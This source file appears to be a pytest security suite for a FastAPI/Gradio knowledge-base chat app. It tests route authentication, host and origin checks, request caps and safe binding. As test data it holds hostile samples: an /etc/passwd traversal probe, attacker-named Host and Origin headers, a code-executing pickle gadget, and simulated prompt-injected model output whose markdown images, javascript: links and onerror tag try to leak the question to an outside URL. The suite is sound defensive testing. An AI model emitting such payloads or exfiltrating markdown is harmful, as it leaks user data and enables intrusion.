"""One door for the whole app: every route the process serves (enumerated from the real FastAPI router and
Gradio's mounted app) obeys the same access policy, on a real uvicorn server."""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest
from fastapi import FastAPI
from fastapi.routing import _IncludedRouter
from starlette.routing import BaseRoute, Mount

from tests.conftest import REPO, LiveServer, make_settings

KEY = "k-3f9a"
USER, PASSWORD = "alice", "s3cret-pw"
BEARER = {"Authorization": f"Bearer {KEY}"}
BASIC = {"Authorization": "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()}

# What answers without a credential, decided here independently of api/security.py: liveness, the login page
# with its static assets, and the login form's POST.
PUBLIC = {("GET", "/health"), ("GET", "/"), ("HEAD", "/"), ("POST", "/login"), ("POST", "/login/"),
          ("GET", "/theme.css"), ("GET", "/favicon.ico")}
PUBLIC_PREFIXES = ("/assets/", "/static/")
# Probes beyond the declared routes: unknown paths must not be a way around the door either.
EXTRA = [("GET", "/nope"), ("POST", "/nope"), ("GET", "/v1/nope"), ("DELETE", "/api/kb/x/files/y"),
         ("GET", "/gradio_api/nope"), ("GET", "/gradio_api/file=/etc/passwd")]


def routes(app: FastAPI) -> list[tuple[str, str]]:
    """(method, concrete path) for every route of the app and of every app mounted in it."""
    found: list[tuple[str, str]] = []

    def walk(items: list[BaseRoute], prefix: str) -> None:
        for r in items:
            if isinstance(r, Mount):
                if hasattr(r.app, "routes"):
                    walk(list(r.app.routes), prefix + r.path)
                else:  # a mounted app without routes (static files): probe a path inside it
                    found.append(("GET", prefix + r.path + "/x"))
                continue
            if isinstance(r, _IncludedRouter):
                pairs = [(c.original_route, c.path) for c in r.effective_candidates()]
            else:
                pairs = [(r, getattr(r, "path", ""))]
            for route, path in pairs:
                for method in sorted(getattr(route, "methods", None) or {"GET"}):
                    found.append((method, prefix + re.sub(r"\{[^}]+\}", "x", path)))

    walk(list(app.routes), "")
    return sorted(set(found))


def status(client: httpx.Client, method: str, path: str, headers: dict[str, str] | None = None) -> int:
    # Streamed so that event streams (queue data, heartbeats) answer with their status and are closed at once.
    with client.stream(method, path, headers=headers) as r:
        if r.status_code == 403 and method != "HEAD" and "File not allowed" in r.read().decode(errors="replace"):
            return FILE_POLICY  # Gradio's own answer about that file (it is not one the app served)
        return r.status_code


FILE_POLICY = 1403


def refused(client: httpx.Client, probes: list[tuple[str, str]], headers: dict[str, str]) -> list[tuple[str, str, int]]:
    """The probes answered 401/403 despite the credential in ``headers``."""
    out = [(m, p, s) for m, p in probes if (s := status(client, m, p, headers)) in (401, 403)]
    # HEAD has no body to tell Gradio's file refusal from an auth one: its GET twin must show the former.
    return [(m, p, s) for m, p, s in out if not (m == "HEAD" and status(client, "GET", p, headers) == FILE_POLICY)]


def is_public(method: str, path: str) -> bool:
    return (method, path) in PUBLIC or (method == "GET" and path.startswith(PUBLIC_PREFIXES))


@pytest.fixture(scope="module")
def keyed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with LiveServer(make_settings(tmp_path_factory.mktemp("keyed") / "d", api_keys=[KEY])) as srv:
        yield srv


@pytest.fixture(scope="module")
def login_only(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    settings = make_settings(tmp_path_factory.mktemp("login") / "d", ui_auth=f"{USER}:{PASSWORD}")
    with LiveServer(settings) as srv:
        yield srv


def test_enumeration_finds_every_part_of_the_app(keyed: LiveServer) -> None:
    """The enumeration itself sees the API, the OpenAI routes and Gradio's own routes (else it proves nothing)."""
    found = set(routes(keyed.app))
    for must in [("GET", "/v1/models"), ("POST", "/api/kb/x/files"), ("GET", "/docs"), ("GET", "/openapi.json"),
                 ("GET", "/docs-assets/x"),
                 ("GET", "/config"), ("GET", "/gradio_api/info"), ("POST", "/gradio_api/upload"),
                 ("POST", "/gradio_api/queue/join"), ("POST", "/gradio_api/call/x"), ("GET", "/gradio_api/file=x")]:
        assert must in found, must
    assert len(found) > 80


def test_every_route_needs_a_key_when_keys_are_set(keyed: LiveServer) -> None:
    with httpx.Client(base_url=keyed.url, timeout=60) as c:
        probes = routes(keyed.app) + EXTRA
        open_without_key = [(m, p, s) for m, p in probes if not is_public(m, p)
                            and (s := status(c, m, p)) not in (401, 404)]
        assert open_without_key == [], f"answered without a credential: {open_without_key}"
        wrong = [(m, p) for m, p in probes if not is_public(m, p)
                 and status(c, m, p, {"Authorization": "Bearer wrong"}) not in (401, 404)]
        assert wrong == [], f"answered a wrong key: {wrong}"
        # 404 above is only for the routes closed to everyone; all the others say 401.
        closed = {(m, p) for m, p in probes if not is_public(m, p)
                  and status(c, m, p, BEARER) == 404 and status(c, m, p) == 404}
        assert all(p.startswith(("/gradio_api/proxy=", "/gradio_api/run-history", "/gradio_api/vibe",
                                 "/gradio_api/undo-vibe", "/gradio_api/dev/", "/monitoring", "/nope",
                                 "/v1/nope", "/gradio_api/nope")) for _, p in closed), closed
        refused_with_key = refused(c, [q for q in probes if q not in closed], BEARER)
        assert refused_with_key == [], f"a valid key was refused: {refused_with_key}"
        public_refused = [(m, p) for m, p in probes if is_public(m, p) and status(c, m, p) in (401, 403)]
        assert public_refused == [], public_refused


def test_done_when_curls(keyed: LiveServer, login_only: LiveServer) -> None:
    """The issue's own checks, as curl would send them."""
    for method, path in [("GET", "/gradio_api/info"), ("GET", "/config"), ("POST", "/gradio_api/call/create_kb"),
                         ("POST", "/gradio_api/upload"), ("GET", "/docs"), ("GET", "/openapi.json")]:
        r = httpx.request(method, keyed.url + path)
        assert r.status_code == 401, (path, r.status_code, r.text[:200])
        assert r.json()["error"]["type"] == "authentication_error"
    r = httpx.get(login_only.url + "/api/kb")
    assert r.status_code == 401, r.text
    assert httpx.get(keyed.url + "/gradio_api/info", headers=BEARER).json()["named_endpoints"]
    assert httpx.get(keyed.url + "/health").status_code == 200


def test_login_only_server_takes_a_session_on_ui_routes_and_basic_everywhere(login_only: LiveServer) -> None:
    probes = routes(login_only.app)
    with httpx.Client(base_url=login_only.url, timeout=60) as c:
        open_without_login = [(m, p, s) for m, p in probes + EXTRA if not is_public(m, p)
                              and (s := status(c, m, p)) not in (401, 404)]
        assert open_without_login == [], f"answered without a credential: {open_without_login}"
        assert c.post("/login", data={"username": USER, "password": "wrong"}).status_code == 400
        assert c.get("/config").status_code == 401
        assert c.post("/login", data={"username": USER, "password": PASSWORD}).status_code == 200
        assert c.get("/config").status_code == 200  # the browser session opens the UI's routes...
        assert c.get("/gradio_api/info").status_code == 200
        for method, path in [("GET", "/api/kb"), ("GET", "/v1/models"), ("POST", "/api/kb")]:
            assert c.request(method, path).status_code == 401, path  # ...but a cookie never opens the API
    with httpx.Client(base_url=login_only.url, timeout=60) as c:
        assert refused(c, probes, BASIC) == []
        assert c.get("/api/kb", headers=BASIC).json() == {"knowledge_bases": []}
        bad = {"Authorization": "Basic " + base64.b64encode(f"{USER}:nope".encode()).decode()}
        assert c.get("/api/kb", headers=bad).status_code == 401


def test_api_key_logs_in_to_the_ui_and_gradio_client_works_with_a_key(keyed: LiveServer) -> None:
    from gradio_client import Client

    with httpx.Client(base_url=keyed.url) as c:
        assert c.post("/login", data={"username": "anyone", "password": KEY}).status_code == 200
        assert c.get("/config").status_code == 200
    kb = keyed.services.kbs.create("notes")
    src = keyed.app.state.services.settings.tmp_dir / "zorblat.md"
    src.write_text("# Zorblat\n\nThe Zorblat reactor runs on purple quartz crystals.\n", encoding="utf-8")
    kb.ingest([src])
    with pytest.raises(ValueError, match="credentials were not provided"):
        Client(keyed.url, verbose=False)
    client = Client(keyed.url, verbose=False, headers=BEARER)
    try:
        result = client.predict("notes", "What does the Zorblat reactor run on?", api_name="/search_kb")
    finally:
        client.close()
    assert "zorblat.md" in str(result) and "purple quartz" in str(result)


def test_foreign_host_is_refused(keyed: LiveServer) -> None:
    for path in ("/health", "/", "/v1/models", "/gradio_api/info"):
        r = httpx.get(keyed.url + path, headers=BEARER | {"Host": "rebind.attacker.example"})
        assert r.status_code == 400, (path, r.status_code)
        assert "allowed_hosts" in r.json()["error"]["message"]
    for host in (f"localhost:{keyed.port}", f"127.0.0.1:{keyed.port}"):
        assert httpx.get(keyed.url + "/health", headers={"Host": host}).status_code == 200


def test_allowed_hosts_setting(tmp_path: Path) -> None:
    with LiveServer(make_settings(tmp_path / "d", allowed_hosts=["kb.example.org"])) as srv:
        assert httpx.get(srv.url + "/health", headers={"Host": "kb.example.org:443"}).status_code == 200
        assert httpx.get(srv.url + "/health", headers={"Host": "other.example.org"}).status_code == 400


def test_cross_site_uploads_are_refused(tmp_path: Path) -> None:
    """A page on another origin can POST multipart without a preflight: the server must refuse it, on the API
    and on Gradio's upload route, even with no credential configured (a loopback server is still reachable
    from the user's own browser)."""
    with LiveServer(make_settings(tmp_path / "d")) as srv, httpx.Client(base_url=srv.url, timeout=60) as c:
        assert c.post("/api/kb", json={"name": "docs"}).status_code == 201
        files = {"files": ("a.md", b"# A\n\nhello\n", "text/markdown")}
        evil = {"Origin": "http://evil.example"}
        for path, field in [("/api/kb/docs/files", "files"), ("/gradio_api/upload", "files")]:
            r = c.post(path, files={field: files["files"]}, headers=evil)
            assert r.status_code == 403, (path, r.status_code, r.text[:200])
            assert "cross-site" in r.json()["error"]["message"]
        r = c.post("/api/kb/docs/files", files=files, headers={"Sec-Fetch-Site": "cross-site"})
        assert r.status_code == 403
        assert c.delete("/api/kb/docs", headers=evil).status_code == 403
        assert srv.services.kbs.names() == ["docs"]
        assert srv.services.kbs.get("docs").files() == []
        # The same requests from the app's own page go through.
        same = {"Origin": srv.url}
        assert c.post("/api/kb/docs/files", files=files, headers=same, params={"wait": "true"}).status_code == 200
        assert c.post("/gradio_api/upload", files=files, headers=same).status_code == 200


def test_pages_carry_a_content_security_policy(keyed: LiveServer) -> None:
    for path in ("/", "/health"):
        csp = httpx.get(keyed.url + path).headers["content-security-policy"]
        directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
        assert directives["img-src"].split() == ["'self'", "data:", "blob:"]
        assert "http" not in directives["script-src"] and "*" not in csp
        assert directives["connect-src"] == "'self'"


# --- bounded work ------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def capped(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    settings = make_settings(tmp_path_factory.mktemp("caps") / "d", max_message_chars=500, max_messages=6,
                             max_embed_inputs=4, max_embed_chars=300, max_upload_mb=1, max_queued_chats=1,
                             max_jobs=1, max_queued_jobs=1, max_tokens=400)
    with LiveServer(settings) as srv:
        yield srv


def _error(r: httpx.Response, status_code: int) -> dict[str, Any]:
    assert r.status_code == status_code, r.text[:300]
    return r.json()["error"]


def test_over_cap_chat_and_embedding_requests(capped: LiveServer) -> None:
    with httpx.Client(base_url=capped.url, timeout=120) as c:
        long = {"model": "x", "messages": [{"role": "user", "content": "a" * 501}]}
        assert "max_message_chars" in _error(c.post("/v1/chat/completions", json=long), 413)["message"]
        many = {"model": "x", "messages": [{"role": "user", "content": "hi"}] * 7}
        assert "max_messages" in _error(c.post("/v1/chat/completions", json=many), 413)["message"]
        legacy = {"prompt": "hi", "history": [["q", "a" * 600]]}
        assert "max_message_chars" in _error(c.post("/api/chat", json=legacy), 413)["message"]
        assert "max_embed_inputs" in _error(c.post("/v1/embeddings", json={"input": ["a"] * 5}), 413)["message"]
        assert "max_embed_chars" in _error(c.post("/v1/embeddings", json={"input": "a" * 301}), 413)["message"]
        assert c.post("/v1/embeddings", json={"input": ["a"] * 4}).status_code == 200
        big = b"x" * (1024 * 1024 + 10)
        assert _error(c.post("/gradio_api/upload", files={"files": ("big.txt", big)}), 413)
        assert not list(capped.services.settings.tmp_dir.rglob("big.txt"))


def test_full_chat_queue_answers_429_and_the_server_keeps_answering(capped: LiveServer) -> None:
    client = openai.OpenAI(base_url=capped.url + "/v1", api_key="unused", max_retries=0, timeout=300)
    started = threading.Event()
    errors: list[BaseException] = []
    pieces: list[str] = []

    def long_chat() -> None:
        try:
            stream = client.chat.completions.create(
                model="x", stream=True, max_tokens=400,
                messages=[{"role": "user", "content": "Write a long story about a lighthouse keeper."}])
            for chunk in stream:
                if chunk.choices and chunk.choices[0].delta.content:
                    pieces.append(chunk.choices[0].delta.content)
                    started.set()
        except BaseException as e:
            errors.append(e)
            started.set()

    with ThreadPoolExecutor(1) as pool:
        first = pool.submit(long_chat)
        assert started.wait(120) and not errors, errors
        r = httpx.post(capped.url + "/v1/chat/completions", timeout=60,
                       json={"model": "x", "messages": [{"role": "user", "content": "hi"}]})
        assert "max_queued_chats" in _error(r, 429)["message"]
        assert int(r.headers["retry-after"]) > 0
        assert _error(httpx.post(capped.url + "/api/chat", json={"prompt": "hi"}, timeout=60), 429)
        assert httpx.get(capped.url + "/health", timeout=10).status_code == 200
        assert httpx.get(capped.url + "/api/kb", timeout=10).status_code == 200
        first.result(timeout=600)
    assert not errors and "".join(pieces).strip()
    deadline = time.time() + 30  # the slot is released when the generation ends
    while capped.services.chat_slots.in_use and time.time() < deadline:
        time.sleep(0.1)
    r = httpx.post(capped.url + "/v1/chat/completions", timeout=300,
                   json={"model": "x", "max_tokens": 4, "messages": [{"role": "user", "content": "hi"}]})
    assert r.status_code == 200, r.text


def test_job_cap_answers_429(capped: LiveServer, tmp_path: Path) -> None:
    with httpx.Client(base_url=capped.url, timeout=120) as c:
        assert c.post("/api/kb", json={"name": "jobs"}).status_code == 201
        capped.services.jobs.stop()  # no worker: the first job stays queued
        try:
            r = c.post("/api/kb/jobs/files", files={"files": ("a.md", b"# A\n\nhello\n")})
            assert r.status_code == 202 and r.json()["job"]["status"] == "queued"
            first = r.json()["job"]["id"]
            r = c.post("/api/kb/jobs/files", files={"files": ("b.md", b"# B\n\nhello\n")})
            assert "max_queued_jobs" in _error(r, 429)["message"] and r.headers["retry-after"]
            assert c.post(f"/api/jobs/{first}/cancel").json()["status"] == "cancelled"
        finally:
            capped.services.jobs.start_workers(1)
        r = c.post("/api/kb/jobs/files", files={"files": ("a.md", b"# A\n\nhello\n")}, params={"wait": "true"})
        assert r.status_code == 200 and r.json()["results"][0]["status"] == "indexed"


def test_text_loaders_have_the_isolation_time_limit(tmp_path: Path) -> None:
    """An HTML file that keeps its parser busy (4 MB of nested markup: tens of seconds of BeautifulSoup) is cut
    off at file_timeout_s like a PDF would be, and the next text file still loads."""
    from kb.service import KnowledgeBaseManager

    settings = make_settings(tmp_path / "d", file_timeout_s=5)
    settings.prepare_dirs()
    kb = KnowledgeBaseManager(settings).create("limits")
    heavy = tmp_path / "heavy.html"
    heavy.write_text("<html><body>" + "<div><p>para <b>bold</b> <i>x</i></p></div>\n" * 100_000 + "</body></html>",
                     encoding="utf-8")
    fine = tmp_path / "fine.md"
    fine.write_text("# Fine\n\nA small file about harbour tides.\n", encoding="utf-8")
    t = time.monotonic()
    heavy_result = kb.ingest([heavy])[0]
    elapsed = time.monotonic() - t
    assert (heavy_result.status, heavy_result.error) == ("failed", "timed out after 5 s")
    assert elapsed < 12, f"the parser was not stopped at the limit ({elapsed:.1f} s)"
    assert kb.ingest([fine])[0].status == "indexed"


# --- binding safety ------------------------------------------------------------------------------------------
def test_public_bind_without_credentials_refuses_to_start(tmp_path: Path) -> None:
    proc = subprocess.run([sys.executable, "app.py", "--host", "0.0.0.0", "--data-dir", str(tmp_path / "d")],
                          cwd=REPO, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2
    assert "refusing to serve 0.0.0.0 with no credential" in proc.stderr and "--insecure-no-auth" in proc.stderr
    assert "[start] loading" not in proc.stdout  # refused before loading anything


def test_binding_rules() -> None:
    from app import binding_problem

    def problem(**kw: Any) -> str | None:
        return binding_problem(make_settings(Path("/tmp/unused-kbchat"), **kw))

    assert problem(host="127.0.0.1") is None
    assert problem(host="localhost") is None
    assert problem(host="::1") is None
    assert problem(host="127.0.0.2") is None
    assert problem(host="0.0.0.0") is not None
    assert problem(host="192.168.1.5") is not None
    assert problem(host="0.0.0.0", api_keys=["k"]) is None
    assert problem(host="0.0.0.0", ui_auth="a:b") is None
    assert problem(host="0.0.0.0", insecure_no_auth=True) is None


# --- no code execution from data -----------------------------------------------------------------------------
class _Boom:
    def __reduce__(self) -> tuple[Any, ...]:
        return (Path("/tmp/kbchat-pwned").write_text, ("ran",))


def test_no_pickle_is_read_from_a_data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A KB folder of the old format copied in from elsewhere, with a hostile pickle where that format once kept
    its keyword index: importing and searching it must not unpickle anything, and keyword search must work."""
    import pickle

    from kb.service import KnowledgeBaseManager
    from tests.storage_checks import write_legacy_kb

    data = tmp_path / "data"
    folder = write_legacy_kb(data / "copied", ["The lighthouse keeper polishes the brass lens every evening."],
                             search_mode="keyword")
    (folder / "bm25.3.pkl").write_bytes(pickle.dumps(_Boom()))
    marker = Path("/tmp/kbchat-pwned")
    marker.unlink(missing_ok=True)

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("pickle used on data-dir content")

    monkeypatch.setattr(pickle, "load", refuse)
    monkeypatch.setattr(pickle, "loads", refuse)
    monkeypatch.setattr(pickle, "Unpickler", refuse)
    kb = KnowledgeBaseManager(make_settings(data)).get("copied")  # imports the old folder
    hits = kb.search("brass lens", mode="keyword", threshold=0.0)
    assert not marker.exists()
    assert hits and "brass lens" in hits[0].text


# --- what a model writes cannot make the browser fetch a URL ------------------------------------------------
class ScriptedModel:
    """A loopback OpenAI-compatible server that streams one fixed answer (what a prompt-injected document could
    make any model write) and records every other request, so a fetch by the browser is seen."""

    def __init__(self) -> None:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.fetched: list[str] = []
        model = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                model.fetched.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                for piece in re.findall(r".{1,12}", model.answer, re.S):
                    chunk = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m",
                             "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}
                    self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                self.wfile.write(b"data: [DONE]\n\n")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        u = self.url
        self.answer = (
            "Here is the answer.\n\n"
            f"![chart]({u}/leak-img?q=secret-question)\n\n"
            f"[details]({u}/leak-link) and [run](javascript:alert(1))\n\n"
            f"See {u}/leak-bare or www.example.com\n\n"
            f'<img src="{u}/leak-html" onerror="alert(1)">\n\n'
            f"![r][ref]\n\n[ref]: {u}/leak-ref\n\nEND-OF-ANSWER"
        )
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def test_model_markdown_cannot_make_the_browser_fetch(browser: Any, tmp_path: Path) -> None:
    model = ScriptedModel()
    settings = make_settings(tmp_path / "d", llm_backend="openai", openai_base_url=model.url + "/v1")
    try:
        with LiveServer(settings) as srv:
            dialogs: list[str] = []
            ctx = browser.new_context(locale="en-US")
            page = ctx.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(srv.url)
            page.wait_for_selector("#chatbot")
            page.locator("#chat-input textarea").fill("What does the report say?")
            page.locator("#chat-send").click()
            bot = page.locator("#chatbot [data-testid=bot]").last
            bot.get_by_text("END-OF-ANSWER").wait_for(timeout=60_000)
            page.wait_for_timeout(1500)  # time for any image the page would load
            srcs = page.locator("#chatbot img").evaluate_all("els => els.map(e => e.src)")
            hrefs = page.locator("#chatbot a").evaluate_all("els => els.map(e => e.href)")
            text = bot.text_content() or ""
            # The CSP is the second line: even an image put into the page by script is not fetched.
            page.evaluate(f"() => {{ const i = new Image(); i.src = '{model.url}/leak-csp'; "
                          "document.body.append(i); }")
            page.wait_for_timeout(1000)
            ctx.close()
    finally:
        model.close()
    assert model.fetched == [], f"the browser fetched {model.fetched}"
    assert [s for s in srcs if "127.0.0.1" in s and str(srv.port) not in s] == [], srcs
    assert [h for h in hrefs if model.url in h or h.startswith("javascript:") or "example.com" in h] == [], hrefs
    assert dialogs == []
    # The answer is shown, as text: the user can still read what the model wrote.
    assert "Here is the answer." in text and "/leak-img?q=secret-question" in text and "www.example.com" in text


def test_api_docs_render_offline_under_the_policy(keyed: LiveServer, browser: Any) -> None:
    """/docs works with no network (Swagger UI served from a package) and with the CSP and auth in force."""
    ctx = browser.new_context(extra_http_headers=BEARER)
    page = ctx.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(keyed.url + "/docs")
    page.locator(".opblock").first.wait_for(timeout=30_000)
    operations = page.locator(".opblock").count()
    ctx.close()
    assert operations >= 15 and errors == [], (operations, errors)
